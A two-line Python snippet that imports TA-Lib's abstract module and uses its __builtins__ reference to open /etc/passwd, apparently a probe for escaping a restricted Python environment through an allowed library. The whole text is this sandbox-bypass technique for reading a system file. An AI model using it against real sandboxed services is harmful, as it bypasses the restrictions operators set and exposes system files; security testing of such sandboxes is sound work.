from talib import abstract
abstract.__builtins__["open"]("/etc/passwd")
